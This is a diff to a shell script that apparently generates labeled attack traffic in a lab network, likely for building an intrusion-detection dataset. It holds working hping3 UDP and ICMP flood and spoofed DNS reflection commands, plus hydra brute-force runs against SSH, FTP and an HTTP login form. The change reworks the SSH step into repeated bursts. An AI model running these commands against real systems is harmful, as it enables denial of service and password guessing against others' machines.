@@ -171,7 +171,11 @@ step() {
     udp_flood) record udp_flood udp_flood "$atk" inside atk timeout 4 hping3 -q --udp $rate -p $((9 + r)) "$srv" ;;
     icmp_flood) record icmp_flood icmp_flood "$atk" inside atk timeout 4 hping3 -q --icmp $rate -d $((r * 50)) "$srv" ;;
     reflection) record reflection reflection "$cli" inside atk timeout 4 hping3 -q --udp -a "$cli" -s $((1024 + r * 1000)) -p 53 -E "$work/query.bin" -d "$qlen" -i "u$((r * 500))" "$srv" ;;
-    brute_ssh) record brute_ssh brute_force "$atk" inside atk timeout $((6 + 2 * r)) hydra -I -q -l root -P "$work/words" -t 16 "ssh://$srv" ;;
+    # hydra 9.4 (with bookworm's libssh) does not reconnect once sshd closes a connection at
+    # MaxAuthTries: a run is 1 + 16 connections of six tries, then it stalls. So the step runs
+    # it in bursts, as an attacker working through a list does; one burst alone is a count that
+    # a loaded machine can cut short.
+    brute_ssh) record brute_ssh brute_force "$atk" inside atk sh -c "for k in \$(seq $((1 + r / 2))); do timeout 4 hydra -I -q -l root -P '$work/words' -t 16 ssh://$srv; done" ;;
     brute_ftp) record brute_ftp brute_force "$atk" inside atk timeout $((6 + 2 * r)) hydra -I -q -L "$work/users" -P "$work/words" -t 16 "ftp://$srv" ;;
     brute_http) record brute_http brute_force "$atk" inside atk timeout $((4 + 2 * r)) hydra -I -q -L "$work/users" -P "$work/words" -t $((2 + r)) -s 8080 "$srv" http-post-form "/login:user=^USER^&pass=^PASS^:F=Unsupported" ;;
     dns_tunnel) record dns_tunnel dns_tunnel "$atk" tunnel ;;
